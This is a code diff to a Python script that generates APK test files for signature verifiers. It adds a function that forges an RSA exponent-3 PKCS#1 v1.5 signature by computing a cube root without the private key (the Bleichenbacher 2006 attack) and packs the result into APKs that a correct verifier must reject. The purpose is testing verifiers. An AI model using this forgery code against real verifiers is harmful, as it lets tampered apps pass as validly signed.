@@ -146,11 +146,79 @@ def build_forged():
         _apk_with_block("gen-forged-cert-swapped-%s.apk" % tag, "CERT", ci.dump())
 
 
+def _icbrt_ceil(n):
+    lo, hi = 0, 1 << ((n.bit_length() + 2) // 3 + 1)
+    while lo < hi:
+        mid = (lo + hi) // 2
+        if mid ** 3 < n:
+            lo = mid + 1
+        else:
+            hi = mid
+    return lo
+
+
+def build_bb06():
+    """gen-forged-rsa-e3-bleichenbacher06.apk: an RSA certificate with public exponent 3 and a signature value made WITHOUT
+    the private key: the cube root of  00 01 FF*8 00 DigestInfo(SHA-256(.SF)) || garbage.  A verifier that does not insist on
+    the DigestInfo being right-aligned in the padded block accepts it; a correct one must not report the certificate."""
+    from asn1crypto import algos, cms, x509 as ax509
+    key = rsa.generate_private_key(3, 2048)
+    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "rsa-e3"), x509.NameAttribute(NameOID.ORGANIZATION_NAME, "Verif Corpus")])
+    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
+            .serial_number(x509.random_serial_number()).not_valid_before(datetime.datetime(2020, 1, 1))
+            .not_valid_after(datetime.datetime(2040, 1, 1)).sign(key, hashes.SHA256()))
+    acert = ax509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))
+    di = bytes.fromhex("3031300d060960864801650304020105000420") + hashlib.sha256(SF_FIXED).digest()
+    k = 256
+    for nff in (8, 16, 32):
+        prefix = b"\x00\x01" + b"\xff" * nff + b"\x00" + di
+        target = int.from_bytes(prefix + b"\x00" * (k - len(prefix)), "big")
+        s_ = _icbrt_ceil(target)
+        cube = (s_ ** 3).to_bytes(k, "big")
+        assert cube[:len(prefix)] == prefix, "cube root too coarse"
+        sig = s_.to_bytes(k, "big")
+        si = cms.SignerInfo({
+            "version": "v1",
+            "sid": cms.SignerIdentifier({"issuer_and_serial_number": cms.IssuerAndSerialNumber(
+                {"issuer": acert.issuer, "serial_number": acert.serial_number})}),
+            "digest_algorithm": algos.DigestAlgorithm({"algorithm": "sha256"}),
+            "signature_algorithm": algos.SignedDigestAlgorithm({"algorithm": "rsassa_pkcs1v15"}),
+            "signature": sig,
+        })
+        sd = cms.SignedData({
+            "version": "v1",
+            "digest_algorithms": [algos.DigestAlgorithm({"algorithm": "sha256"})],
+            "encap_content_info": {"content_type": "data"},
+            "certificates": [acert],
+            "signer_infos": [si],
+        })
+        der = cms.ContentInfo({"content_type": "signed_data", "content": sd}).dump()
+        entries = []
+        with zipfile.ZipFile(BASE) as z:
+            for zi in z.infolist():
+                if not zi.filename.startswith("META-INF/"):
+                    entries.append((zi.filename, z.read(zi.filename)))
+        out = io.BytesIO()
+        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+            z.writestr("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\n\r\n")
+            z.writestr("META-INF/CERT.SF", SF_FIXED)
+            z.writestr("META-INF/CERT.RSA", der)
+            for fn, data in entries:
+                z.writestr(fn, data)
+        nm = "gen-forged-rsa-e3-bleichenbacher06-ff%d.apk" % nff
+        with open(os.path.join(OUT, nm), "wb") as f:
+            f.write(out.getvalue())
+        print("wrote", nm)
+
+
 if __name__ == "__main__":
     os.makedirs(OUT, exist_ok=True)
     import sys
     if "--forged" in sys.argv:
         build_forged()
+        raise SystemExit(0)
+    if "--bb06" in sys.argv:
+        build_bb06()
         raise SystemExit(0)
     if "--new-only" in sys.argv:
         build("gen-embedded-content-ec.apk", [("CERT", "ec", hashes.SHA256, "embedded")])
